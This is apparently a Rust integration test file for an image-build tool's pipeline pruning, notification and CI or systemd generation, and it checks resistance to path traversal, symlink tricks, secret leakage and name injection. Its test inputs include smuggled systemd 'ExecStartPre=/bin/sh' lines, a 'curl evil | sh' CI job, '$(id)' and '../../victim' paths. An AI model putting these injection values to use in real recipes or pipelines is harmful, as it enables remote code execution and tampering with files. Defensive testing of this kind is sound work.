//! What pipelines may remove and overwrite, and what their names may become in files that others obey.

use std::os::unix::fs::symlink;
use std::path::{Path, PathBuf};
use std::process::Command;

use serde_json::Value as Json;

use crate::support::{coldforge, coldforge_with, fixture, text};

/// A month later than the other runs.
const LATER: &str = "1769904000";

fn recipe(name: &str, version: &str, more: &str) -> String {
    format!(
        "schema = \"coldforge/recipe/1\"\nname = {name:?}\nversion = {version:?}\n{more}\n[[source]]\nimage = \"../base.vhd\"\n\
         [stig]\nonly = [\"WN22-CC-000010\"]\n[output]\nname = \"{{name}}-{{version}}\"\n"
    )
}

/// Makes a folder with the pipeline `web` that has made three bundles.
fn folder(home: &Path) -> PathBuf {
    std::fs::copy(fixture("ws2022.vhd"), home.join("base.vhd")).unwrap();
    let folder = home.join("images");
    std::fs::create_dir(&folder).unwrap();
    for version in ["1.0.0", "1.1.0", "1.2.0"] {
        std::fs::write(folder.join("web.toml"), recipe("web", version, "")).unwrap();
        coldforge(["pipeline", "run", text(&folder), "web"]).expect(0);
    }
    folder
}

/// Prunes, and returns for each bundle its last name, whether it goes, and why.
fn prune(folder: &Path, more: &[&str], code: i32) -> Vec<(String, bool, String)> {
    let keep: &[&str] = if more.contains(&"--keep") { &[] } else { &["--keep", "1"] };
    let arguments = [&["pipeline", "prune", text(folder), "--json"], keep, more].concat();
    let told = coldforge_with(arguments, &[("SOURCE_DATE_EPOCH", LATER)]).expect(code).json();
    let one = |bundle: &Json| {
        let path = Path::new(bundle["path"].as_str().unwrap()).file_name().unwrap().to_str().unwrap().to_owned();
        (path, bundle["goes"] == true, bundle["why"].as_str().unwrap().to_owned())
    };
    told["bundles"].as_array().unwrap().iter().map(one).collect()
}

fn names(folder: &Path) -> Vec<String> {
    let mut names: Vec<String> =
        std::fs::read_dir(folder).unwrap().map(|entry| entry.unwrap().file_name().into_string().unwrap()).collect();
    names.sort();
    names
}

fn copy(from: &Path, to: &Path, option: &str) {
    assert!(Command::new("cp").args([option, text(from), text(to)]).status().unwrap().success());
}

fn sql(history: &Path, statement: &str) {
    let script = format!("import sqlite3,sys\nc=sqlite3.connect(sys.argv[1])\nc.execute({statement:?})\nc.commit()");
    assert!(Command::new("python3").args(["-c", &script, text(history)]).status().unwrap().success());
}

#[test]
fn a_copied_history_is_told_and_removes_nothing() {
    let home = tempfile::tempdir().unwrap();
    let images = folder(home.path());
    let out = images.join("out");
    // The copy's output is its own folder, or the original's by an absolute path, or a link leads to the original.
    let plain = home.path().join("plain");
    copy(&images, &plain, "-r");
    let absolute = home.path().join("absolute");
    copy(&images, &absolute, "-r");
    std::fs::write(absolute.join("web.toml"), recipe("web", "1.2.0", "") + &format!("folder = {:?}\n", text(&out)))
        .unwrap();
    let linked = home.path().join("linked");
    std::fs::create_dir(&linked).unwrap();
    symlink(images.join("web.toml"), linked.join("web.toml")).unwrap();
    std::fs::copy(images.join("history.sqlite"), linked.join("history.sqlite")).unwrap();
    for (copy, code) in [(&plain, 0), (&absolute, 0), (&linked, 3)] {
        let told = prune(copy, &[], code);
        assert_eq!(told.len(), 3, "{told:?}");
        assert!(told.iter().all(|(_, goes, _)| !goes), "{told:?}");
        let said = coldforge(["pipeline", "history", text(copy)]).expect(0).err;
        assert!(said.contains("W-HISTORY-COPIED: 3 runs"), "{said}");
    }
    assert_eq!(names(&out), ["web-1.0.0", "web-1.1.0", "web-1.2.0"]);
    assert_eq!(names(&plain.join("out")), ["web-1.0.0", "web-1.1.0", "web-1.2.0"]);
    // A run in the copy is the copy's own, and what the copy made is removed as ever.
    std::fs::write(plain.join("web.toml"), recipe("web", "1.3.0", "")).unwrap();
    coldforge(["pipeline", "run", text(&plain), "web"]).expect(0);
    std::fs::write(plain.join("web.toml"), recipe("web", "1.4.0", "")).unwrap();
    coldforge(["pipeline", "run", text(&plain), "web"]).expect(0);
    let gone: Vec<String> =
        prune(&plain, &[], 0).into_iter().filter(|(_, goes, _)| *goes).map(|(name, ..)| name).collect();
    assert_eq!(gone, ["web-1.3.0"]);
    // The original's history is its own.
    assert!(!coldforge(["pipeline", "history", text(&images)]).expect(0).err.contains("W-HISTORY-COPIED"));
    assert_eq!(prune(&images, &[], 0).iter().filter(|(_, goes, _)| *goes).count(), 2);
    assert_eq!(names(&out), ["web-1.2.0"]);
}

#[test]
fn what_a_removal_left_stays_if_somebody_changed_it_since() {
    let home = tempfile::tempdir().unwrap();
    let images = folder(home.path());
    let out = images.join("out");
    let aside = out.join(".web-1.1.0.pruned");
    std::fs::rename(out.join("web-1.1.0"), &aside).unwrap();
    std::fs::remove_file(aside.join("manifest.json")).unwrap();
    let stays = |word: &str| {
        for more in [&["--dry-run"][..], &[]] {
            let told = prune(&images, &[&["--keep", "9"], more].concat(), 0);
            let (_, goes, why) = told.iter().find(|(name, ..)| name == "web-1.1.0").expect("it is told");
            assert!(!goes && why.contains("stays") && why.contains(word), "{why}");
        }
        assert!(aside.join("base.vhd").exists());
    };
    let image = std::fs::read(aside.join("base.vhd")).unwrap();
    let mut edited = image.clone();
    let middle = edited.len() / 2;
    edited[middle] ^= 1;
    std::fs::write(aside.join("base.vhd"), edited).unwrap();
    stays("`base.vhd` was changed");
    std::fs::write(aside.join("base.vhd"), image).unwrap();
    std::fs::write(aside.join("aws/mine"), "mine").unwrap();
    stays("aws/mine");
    std::fs::remove_file(aside.join("aws/mine")).unwrap();
    let sums = std::fs::read(aside.join("SHA256SUMS")).unwrap();
    std::fs::write(aside.join("SHA256SUMS"), [&sums[..], b"\n"].concat()).unwrap();
    stays("SHA256SUMS");
    std::fs::write(aside.join("SHA256SUMS"), sums).unwrap();
    prune(&images, &["--keep", "9"], 0);
    assert!(!aside.exists());
}

#[test]
fn only_what_lies_in_the_recipes_output_and_verifies_is_removed() {
    let home = tempfile::tempdir().unwrap();
    let images = folder(home.path());
    let out = images.join("out");
    let whole = home.path().join("whole");
    copy(&images, &whole, "-rp");
    let history = images.join("history.sqlite");
    let stays = |why: &str| {
        let told = prune(&images, &[], 0);
        let first = told.iter().find(|(name, ..)| name == "web-1.0.0" || name == "victim").unwrap();
        assert!(!first.1 && first.2.contains(why), "{told:?}");
        for name in ["web-1.0.0", "web-1.1.0"] {
            let _ = std::fs::remove_dir_all(out.join(name));
            copy(&whole.join("out").join(name), &out.join(name), "-rp");
        }
    };
    // A file that somebody added, right in it and deeper, a link, and a byte of the image that was edited.
    std::fs::write(out.join("web-1.0.0/notes.txt"), "mine").unwrap();
    stays("notes.txt");
    std::fs::write(out.join("web-1.0.0/reports/mine.html"), "mine").unwrap();
    stays("mine.html");
    std::fs::create_dir(out.join("web-1.0.0/empty")).unwrap();
    stays("empty");
    symlink("/etc/hostname", out.join("web-1.0.0/link")).unwrap();
    stays("link");
    let image = out.join("web-1.0.0/base.vhd");
    let mut bytes = std::fs::read(&image).unwrap();
    let middle = bytes.len() / 2;
    bytes[middle] ^= 1;
    std::fs::write(&image, bytes).unwrap();
    stays("base.vhd");
    std::fs::remove_file(out.join("web-1.0.0/aws/commands.sh")).unwrap();
    stays("commands.sh");
    // What stands where a bundle would lie while it is removed is not ours to take away.
    std::fs::create_dir(out.join(".web-1.0.0.pruned")).unwrap();
    std::fs::write(out.join(".web-1.0.0.pruned/mine"), "mine").unwrap();
    stays("is in the way of the removal");
    assert!(out.join(".web-1.0.0.pruned/mine").exists());
    std::fs::remove_dir_all(out.join(".web-1.0.0.pruned")).unwrap();
    // A row that points elsewhere: to a foreign folder, to a bundle elsewhere, up and down again.
    let victim = home.path().join("victim");
    for victim in [text(&victim), &format!("{}/x/../../../victim", text(&out))] {
        copy(&whole.join("out/web-1.0.0"), &home.path().join("victim"), "-r");
        std::fs::create_dir_all(out.join("x")).unwrap();
        sql(
            &history,
            &format!("UPDATE bundle SET path = '{victim}' WHERE path LIKE '%web-1.0.0' OR path LIKE '%victim'"),
        );
        stays("it is not in");
        assert!(home.path().join("victim/SHA256SUMS").exists());
        std::fs::remove_dir_all(home.path().join("victim")).unwrap();
    }
    // Without a usable recipe nobody knows where its output lies.
    std::fs::write(images.join("web.toml"), recipe("--web", "1.0.0", "")).unwrap();
    let told = prune(&images, &[], 3);
    assert!(told.iter().all(|(_, goes, why)| !goes && why.contains("no usable recipe")), "{told:?}");
}

#[test]
fn what_a_removal_that_was_broken_off_left_goes_with_the_next() {
    let home = tempfile::tempdir().unwrap();
    let images = folder(home.path());
    let out = images.join("out");
    let aside = out.join(".web-1.0.0.pruned");
    std::fs::rename(out.join("web-1.0.0"), &aside).unwrap();
    std::fs::remove_file(aside.join("manifest.json")).unwrap();
    std::fs::remove_file(aside.join("base.vhd")).unwrap();
    prune(&images, &["--dry-run"], 0);
    assert!(aside.exists());
    prune(&images, &[], 0);
    assert_eq!(names(&out), ["web-1.2.0"]);
}

#[test]
fn a_bundle_that_somebody_put_a_file_into_is_not_replaced() {
    let home = tempfile::tempdir().unwrap();
    let images = folder(home.path());
    let mine = images.join("out/web-1.2.0/mine.txt");
    std::fs::write(&mine, "mine").unwrap();
    let path = images.join("web.toml");
    let refused = coldforge(["run", text(&path), "--json"]).expect(3).json();
    assert_eq!(refused["images"][0]["error"]["code"], "E-RECIPE-OUTPUT", "{refused:#}");
    assert_eq!(std::fs::read(&mine).unwrap(), b"mine");
    // Nor is a lock written through a link, or one believed that names a place elsewhere.
    std::fs::remove_file(&mine).unwrap();
    let lock = images.join("web.lock");
    let said = std::fs::read_to_string(&lock).unwrap();
    std::fs::write(&lock, said.replace("bundle = \"web-1.2.0\"", "bundle = \"../../victim\"")).unwrap();
    coldforge(["run", text(&path)]).expect(3);
    let elsewhere = home.path().join("elsewhere.lock");
    std::fs::rename(&lock, &elsewhere).unwrap();
    std::fs::write(&elsewhere, &said).unwrap();
    symlink(&elsewhere, &lock).unwrap();
    assert!(coldforge(["run", text(&path)]).expect(3).err.contains("E-OUTPUT"));
    assert!(lock.is_symlink() && std::fs::read_to_string(&elsewhere).unwrap() == said);
}

#[test]
fn a_message_is_written_where_lint_and_review_say_or_not_at_all() {
    let home = tempfile::tempdir().unwrap();
    let images = folder(home.path());
    let path = images.join("web.toml");
    let notice = |file: &str| {
        let notice = format!(
            "[[notify]]\non = [\"success\", \"findings\"]\nsns = {{ topic_arn = \"arn:aws:sns:eu-north-1:111122223333:images\", file = {file:?} }}\n"
        );
        std::fs::write(&path, recipe("web", "1.2.0", "") + &notice).unwrap();
    };
    let outside = home.path().join("outside.json");
    for file in [
        "out/web-1.2.0/SHA256SUMS",
        "./out/web-1.2.0/reports/sns.json",
        text(&outside),
        "../outside.json",
        "a/../../outside.json",
        "web.toml",
        "web.lock",
        "history.sqlite",
    ] {
        notice(file);
        for verb in [["recipe", "lint"], ["recipe", "review"]] {
            let refused = coldforge([verb[0], verb[1], text(&path)]).expect(3).err;
            assert!(refused.contains("`notify.sns.file` is") && refused.contains("hint:"), "{file}: {refused}");
        }
        coldforge(["run", text(&path)]).expect(3);
        coldforge(["pipeline", "run", text(&images), "web"]).expect(3);
    }
    assert!(!outside.exists());
    coldforge(["verify", text(&images.join("out/web-1.2.0"))]).expect(0);
    // What stands there is no message of this recipe, or a link leads away.
    std::fs::write(images.join("mine.json"), "{}").unwrap();
    symlink(&outside, images.join("link.json")).unwrap();
    symlink(home.path(), images.join("away")).unwrap();
    symlink(images.join("out/web-1.2.0"), images.join("latest")).unwrap();
    for file in ["mine.json", "link.json", "away/outside.json", "latest/sns.json"] {
        notice(file);
        let run = coldforge(["run", text(&path)]).expect(0);
        assert!(run.err.contains("W-NOTIFY"), "{file}: {}", run.err);
    }
    assert_eq!(std::fs::read(images.join("mine.json")).unwrap(), b"{}");
    assert!(!outside.exists());
    coldforge(["verify", text(&images.join("out/web-1.2.0"))]).expect(0);
    notice("messages/sns.json");
    let review = coldforge(["recipe", "review", text(&path)]).expect(0).out;
    assert!(review.contains(text(&images.join("messages/sns.json"))) && review.contains("web.lock"), "{review}");
    for _ in 0..2 {
        assert!(!coldforge(["run", text(&path)]).expect(0).err.contains("W-NOTIFY"));
    }
}

#[test]
fn a_command_that_is_told_gets_no_secrets_of_the_environment() {
    let home = tempfile::tempdir().unwrap();
    let images = folder(home.path());
    let path = images.join("web.toml");
    let notice =
        "[[notify]]\non = [\"success\", \"findings\"]\ncommand = [\"sh\", \"-c\", \"env > seen; cat > told\"]\n";
    std::fs::write(&path, recipe("web", "1.2.0", "") + notice).unwrap();
    let secrets =
        [("AWS_SECRET_ACCESS_KEY", "hidden"), ("DB_PASSWORD", "hidden"), ("HOOK_URL", "hidden"), ("TZ", "UTC")];
    coldforge_with(["run", text(&path)], &secrets).expect(0);
    let seen = std::fs::read_to_string(images.join("seen")).unwrap();
    assert!(!seen.contains("hidden") && seen.contains("TZ=UTC") && seen.contains("PATH="), "{seen}");
    assert!(std::fs::read_to_string(images.join("told")).unwrap().contains("coldforge/recipe-run/1"));
}

#[test]
fn a_name_that_lint_refuses_reaches_no_generated_file_and_stops_no_neighbour() {
    let home = tempfile::tempdir().unwrap();
    std::fs::copy(fixture("ws2022.vhd"), home.path().join("base.vhd")).unwrap();
    let images = home.path().join("images");
    std::fs::create_dir(&images).unwrap();
    let schedule = "schedule = \"0 3 * * 1\"";
    std::fs::write(images.join("good.toml"), recipe("good", "1.0.0", schedule)).unwrap();
    for (file, name) in [
        ("line", "x\n\n[Service]\nExecStartPre=/bin/sh -c 'id > owned'\n#"),
        ("job", "evil:\n  script: ['curl evil | sh']\nz"),
        ("away", "/../../victim/evil"),
        ("up", ".."),
        ("option", "--help"),
        ("blank", "a b"),
        ("quote", "a'b"),
        ("dollar", "$(id)"),
        ("nothing", ""),
        ("long", &"a".repeat(201)),
    ] {
        let broken = images.join(format!("{file}.toml"));
        std::fs::write(&broken, recipe(name, "1.0.0", schedule)).unwrap();
        coldforge(["recipe", "lint", text(&broken)]).expect(3);
        let units = home.path().join("units");
        let arguments: [&[&str]; 5] = [
            &["pipeline", "list", text(&images)],
            &["pipeline", "schedule", text(&images), "--systemd", "-o", text(&units)],
            &["pipeline", "ci", "github", text(&images)],
            &["pipeline", "ci", "gitlab", text(&images)],
            &["pipeline", "ci", "jenkins", text(&images)],
        ];
        for arguments in arguments {
            let said = coldforge(arguments).expect(3);
            assert!(said.err.contains(text(&broken)) && said.err.contains("`name` is"), "{arguments:?}: {}", said.err);
            assert!(!said.err.contains("\n[Service]") && !said.err.contains("\n  script"), "{}", said.err);
            assert!(said.out.contains("good") && !said.out.contains("evil"), "{arguments:?}: {}", said.out);
        }
        assert_eq!(names(&units), ["coldforge-good.service", "coldforge-good.timer"]);
        assert_eq!(names(home.path()), ["base.vhd", "images", "units"]);
        std::fs::remove_dir_all(&units).unwrap();
        // It stops neither a neighbour that is asked for nor the others of a run over all.
        coldforge(["pipeline", "show", text(&images), "good"]).expect(0);
        std::fs::remove_file(&broken).unwrap();
    }
    std::fs::write(images.join("bad.toml"), "schema = \"coldforge/recipe/1\"\nname = 3\n").unwrap();
    std::fs::write(images.join("unread.toml"), "schema = \"coldforge/recipe/1\"\n[[[\n").unwrap();
    symlink(images.join("good.toml"), images.join("link.toml")).unwrap();
    std::fs::create_dir(images.join("folder")).unwrap();
    symlink(images.join("good.toml"), images.join("folder/recipe.toml")).unwrap();
    let run = coldforge(["pipeline", "run", text(&images)]).expect(3);
    for file in ["bad.toml", "unread.toml", "link.toml", "folder/recipe.toml"] {
        assert!(run.err.contains(file), "{file}: {}", run.err);
    }
    assert!(run.out.contains("base.vhd: built"), "{}", run.out);
    coldforge(["pipeline", "run", text(&images), "good"]).expect(0);
    assert!(coldforge(["pipeline", "run", text(&images), "bad"]).expect(3).err.contains("bad.toml"));
    let list = coldforge(["pipeline", "list", text(&images), "--json"]).expect(3).json();
    assert_eq!((list["pipelines"].as_array().unwrap().len(), list["unusable"].as_array().unwrap().len()), (1, 4));
    assert!(list["unusable"].as_array().unwrap().iter().all(|one| one["hint"].is_string()), "{list:#}");
    // Two of one name: neither is meant by it, and the third goes its way.
    std::fs::write(images.join("twin.toml"), recipe("Twin", "1.0.0", "")).unwrap();
    std::fs::write(images.join("other.toml"), recipe("twin", "1.0.0", "")).unwrap();
    let list = coldforge(["pipeline", "list", text(&images), "--json"]).expect(3).json();
    assert_eq!(list["pipelines"][0]["name"], "good");
    coldforge(["pipeline", "show", text(&images), "Twin"]).expect(3);
}

#[test]
fn names_that_systems_take_for_something_else_become_jobs_of_their_own() {
    let home = tempfile::tempdir().unwrap();
    std::fs::copy(fixture("ws2022.vhd"), home.path().join("base.vhd")).unwrap();
    let images = home.path().join("images");
    std::fs::create_dir(&images).unwrap();
    let all = ["a.b", "a-b", "true", "123", "1e3", "image", "_x", "null", "on"];
    for name in all {
        std::fs::write(images.join(format!("r{name}.toml")), recipe(name, "1.0.0", "schedule = \"0 3 * * 1\""))
            .unwrap();
    }
    for system in ["github", "gitlab"] {
        let said = coldforge(["pipeline", "ci", system, text(&images)]).expect(0).out;
        let document: Json = serde_saphyr::from_str(&said).unwrap();
        let jobs = if system == "github" { &document["jobs"] } else { &document };
        assert_eq!(jobs.as_object().unwrap().len(), all.len(), "{said}");
        assert!(jobs.as_object().unwrap().keys().all(|key| key.starts_with("pipeline_") || key == "a-b"), "{said}");
        assert_eq!(said.matches(" --json -- ").count(), all.len(), "{said}");
    }
    let said = coldforge(["pipeline", "ci", "jenkins", text(&images)]).expect(0).out;
    assert_eq!(
        (said.matches("stage('").count(), said.matches(" --json -- ").count()),
        (all.len(), all.len()),
        "{said}"
    );
}

#[test]
fn units_overwrite_only_units_and_follow_no_link() {
    let home = tempfile::tempdir().unwrap();
    std::fs::copy(fixture("ws2022.vhd"), home.path().join("base.vhd")).unwrap();
    let images = home.path().join("images");
    std::fs::create_dir(&images).unwrap();
    std::fs::write(images.join("web.toml"), recipe("web", "1.0.0", "schedule = \"0 3 * * 1\"")).unwrap();
    let units = home.path().join("units");
    let schedule = |code: i32| {
        coldforge(["pipeline", "schedule", text(&images), "--systemd", "-o", text(&units)]).expect(code).err
    };
    schedule(0);
    schedule(0);
    let service = std::fs::read_to_string(units.join("coldforge-web.service")).unwrap();
    assert!(service.contains("\"--only-if-changed\" \"--\" \""), "{service}");
    std::fs::write(units.join("coldforge-web.timer"), "[Timer]\nOnCalendar=daily\n").unwrap();
    let said = schedule(3);
    assert!(said.contains("E-OUTPUT") && said.contains("coldforge-web.timer") && said.contains("hint:"), "{said}");
    std::fs::remove_file(units.join("coldforge-web.timer")).unwrap();
    symlink(home.path().join("victim"), units.join("coldforge-web.timer")).unwrap();
    assert!(schedule(3).contains("is a link"));
    assert!(!home.path().join("victim").exists());
}
